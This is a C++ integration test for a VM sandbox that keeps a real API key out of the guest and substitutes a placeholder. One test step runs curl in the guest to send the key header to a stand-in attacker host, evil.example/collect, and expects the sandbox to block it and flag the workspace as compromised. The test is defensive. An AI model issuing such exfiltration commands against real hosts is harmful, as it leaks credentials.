// The wire boundary inside a real VM (issue 5's proof), under TCG with the test image and the real
// `cloister` binary: the guest's environment holds a placeholder, Debian's curl in the guest goes
// through the supervisor's proxy (HTTPS_PROXY and the proxy CA set up by the agent) to a local fake
// of api.anthropic.com that receives the real key; no byte of the real key is on any guest disk or
// in any guest process environment; the placeholder sent to another host trips the detector, the
// store marks the workspace compromised, the VM is paused and the next start is refused.
// Nothing leaves 127.0.0.1: CLOISTER_PROXY_RESOLVE maps the names to the fake (resolve-only).
#include <stdlib.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iostream>
#include <sstream>
#include <thread>

#include "base/strings.h"
#include "base/subprocess.h"
#include "image/testing.h"
#include "proxy/ca.h"
#include "proxy/fake_upstream.h"
#include "store/store.h"
#include "vm/launcher.h"
#include "vm/state.h"
#include "vm/workspace.h"

namespace cloister::vm {
namespace {

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

const std::string kReal =
    "sk-ant-api03-REALxKEYxONLYxONxTHExHOSTx0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWX-_AA";

std::string Slurp(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  std::stringstream s;
  s << f.rdbuf();
  return s.str();
}

class WireVmTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto img = image::testing::SharedTestImage();
    ASSERT_TRUE(img.ok()) << img.error().ToString();
    image_dir_ = img->dir;
    char t[] = "/tmp/cl-wire-XXXXXX";  // short: unix socket paths are limited
    root_ = mkdtemp(t);
    auto s = Store::Open(root_);
    ASSERT_TRUE(s.ok());
    store_ = std::move(*s);
    const char* bin = std::getenv("CLOISTER_BINARY_DIR");
    ASSERT_NE(bin, nullptr);
    exe_ = std::string(bin) + "/src/cli/cloister";
  }
  void TearDown() override {
    auto list = store_->List();
    if (list.ok()) {
      for (const auto& ws : *list) {
        StopOptions so;
        so.force = true;
        std::ostringstream quiet;
        (void)StopWorkspace(*store_, ws.name, so, quiet);
      }
    }
    fs::remove_all(root_);
  }

  RunOutput Cloister(std::vector<std::string> args, const std::string& input = "") {
    args.insert(args.begin(), {exe_, "--store", root_});
    RunOptions o;
    o.timeout = std::chrono::minutes(6);
    o.stdin_data = input;
    o.env_set = env_;
    auto r = RunProcess(args, o);
    EXPECT_TRUE(r.ok());
    if (!r.ok()) return RunOutput{};
    if (r->exit_code != 0) std::cerr << "[" << Join(args, " ") << "] -> " << r->exit_code << "\n" << r->err;
    return *r;
  }
  std::string Exec(const std::string& script, int* code = nullptr, const std::string& user = "dev",
                   std::vector<std::string> args = {}) {
    std::vector<std::string> argv = {"exec", "ws", "-u", user, "--", "sh", "-c", script};
    argv.insert(argv.end(), args.begin(), args.end());
    auto r = Cloister(argv);
    if (code) *code = r.exit_code;
    return r.out;
  }

  std::string image_dir_, root_, exe_;
  std::unique_ptr<Store> store_;
  std::map<std::string, std::string> env_;
};

TEST_F(WireVmTest, GuestHoldsOnlyThePlaceholderAndTheRealKeyReachesOnlyItsHost) {
  auto upstream_ca = proxy::CertAuthority::CreateInMemory("test upstream CA");
  ASSERT_TRUE(upstream_ca.ok());
  std::string ca_file = root_ + "/upstream-ca.pem";
  std::ofstream(ca_file) << (*upstream_ca)->cert_pem();
  auto fake = proxy::testing::FakeUpstream::Start(
      *upstream_ca, [](const proxy::testing::SeenRequest&, proxy::testing::ResponseWriter& w) {
        w.Send(200, {{"content-type", "application/json"}}, "{\"type\":\"message\",\"fake\":true}");
      });
  ASSERT_TRUE(fake.ok());
  const std::string addr = (*fake)->Address();
  env_ = {{"CLOISTER_PROXY_RESOLVE", "api.anthropic.com:443=" + addr + ",evil.example:443=" + addr},
          {"CLOISTER_PROXY_UPSTREAM_CA", ca_file},
          {"CLOISTER_VAULT_KEY_BACKEND", "file"}};

  CreateRequest req;
  req.name = "ws";
  req.image = image_dir_ + "/disk.raw";
  req.memory_mib = 384;
  req.cpus = 1;
  req.home_size = 256ull << 20;  // the raw scans below read every byte under TCG
  ASSERT_TRUE(store_->Create(req).ok());
  ASSERT_EQ(Cloister({"cred", "add", "ws", "anthropic"}, kReal + "\n").exit_code, 0);
  auto started = Cloister({"start", "ws", "--accel", "tcg"});
  ASSERT_EQ(started.exit_code, 0) << started.err;

  // The guest sees a placeholder: same prefix and length, the marker, not the real key.
  int code = -1;
  std::string placeholder = Trim(Exec("printf %s \"$ANTHROPIC_API_KEY\"", &code));
  ASSERT_EQ(code, 0);
  EXPECT_NE(placeholder, kReal);
  EXPECT_EQ(placeholder.size(), kReal.size());
  EXPECT_EQ(placeholder.rfind("sk-ant-", 0), 0u) << placeholder;
  EXPECT_NE(placeholder.find("CLOISTER"), std::string::npos) << placeholder;

  // Debian's curl in the guest, configured by nothing but the environment the agent set up:
  // through the proxy, trusting the proxy CA, to the fake api.anthropic.com.
  std::string answer = Exec(
      "curl -sS --max-time 120 -H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'content-type: application/json' "
      "-d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[]}' https://api.anthropic.com/v1/messages",
      &code);
  EXPECT_EQ(code, 0);
  EXPECT_EQ(answer, "{\"type\":\"message\",\"fake\":true}");
  auto seen = (*fake)->requests();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].sni, "api.anthropic.com");
  EXPECT_EQ(seen[0].Header("x-api-key"), kReal) << "the real key must arrive upstream";
  EXPECT_EQ(seen[0].body.find(placeholder), std::string::npos);

  // No byte of the real key anywhere in the guest: raw disks (system, home, metadata) and every
  // process environment, searched as root. The key is passed split so the search itself does
  // not plant it in a command line.
  std::string half = kReal.substr(0, 30), rest = kReal.substr(30);
  std::string found = Exec(
      "M=\"$0$1\"; n=0; for d in /dev/vda /dev/vdb /dev/vdc; do "
      "c=$(tr '\\000' '\\n' < $d | grep -c -F \"$M\"); n=$((n+c)); done; "
      "c=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\000' '\\n' | grep -c -F \"$M\"); echo $((n+c))",
      &code, "root", {half, rest});
  EXPECT_EQ(code, 0);
  EXPECT_EQ(Trim(found), "0");
  // The canary search can find: the placeholder is there (the same search for it is non-zero).
  std::string ph_found = Exec(
      "M=\"$0$1\"; c=$(tr '\\000' '\\n' < /dev/vdc | grep -c -F \"$M\"); echo $c", &code, "root",
      {placeholder.substr(0, 30), placeholder.substr(30)});
  EXPECT_NE(Trim(ph_found), "0");
  // And the host's copy of the metadata disk holds no real value either.
  RunPaths paths = RunPathsFor(*store_, "ws");
  EXPECT_EQ(Slurp(paths.meta_disk).find(kReal), std::string::npos);

  // The placeholder toward a host outside its scope: refused (451), the workspace is marked
  // compromised and its VM paused; nothing reached the fake. The pause may freeze the guest before
  // curl's exit status comes back, so the exec runs with a short host-side timeout and the proof
  // is read on the host: the store's flag, the supervisor's log and the fake's request count.
  {
    RunOptions o;
    o.timeout = std::chrono::seconds(120);
    o.env_set = env_;
    auto r = RunProcess({exe_, "--store", root_, "exec", "ws", "--", "sh", "-c",
                         "curl -sS --max-time 100 -o /dev/null -w '%{http_code}' -H \"x-api-key: "
                         "$ANTHROPIC_API_KEY\" https://evil.example/collect"},
                        o);
    ASSERT_TRUE(r.ok());
    if (!r->timed_out) {
      EXPECT_EQ(r->out, "451");
    }
  }
  auto deadline = Clock::now() + std::chrono::seconds(60);
  auto flagged = [&] {
    auto c = store_->LoadConfig("ws");
    return c.ok() && c->compromised;
  };
  while (!flagged() && Clock::now() < deadline) {
    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // polling the store, bounded
  }
  auto config = store_->LoadConfig("ws");
  ASSERT_TRUE(config.ok());
  EXPECT_TRUE(config->compromised);
  EXPECT_NE(config->compromised_reason.find("evil.example"), std::string::npos)
      << config->compromised_reason;
  while (Slurp(paths.supervisor_log).find("pausing the VM") == std::string::npos &&
         Clock::now() < deadline) {
    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // polling a log, bounded
  }
  EXPECT_NE(Slurp(paths.supervisor_log).find("pausing the VM"), std::string::npos);
  EXPECT_EQ((*fake)->requests().size(), 1u) << "the out-of-scope request must not be forwarded";

  ASSERT_EQ(Cloister({"stop", "ws", "--force"}).exit_code, 0);
  auto again = Cloister({"start", "ws", "--accel", "tcg"});
  EXPECT_NE(again.exit_code, 0);
  EXPECT_NE(again.err.find("cloister wipe ws"), std::string::npos) << again.err;
}

}  // namespace
}  // namespace cloister::vm
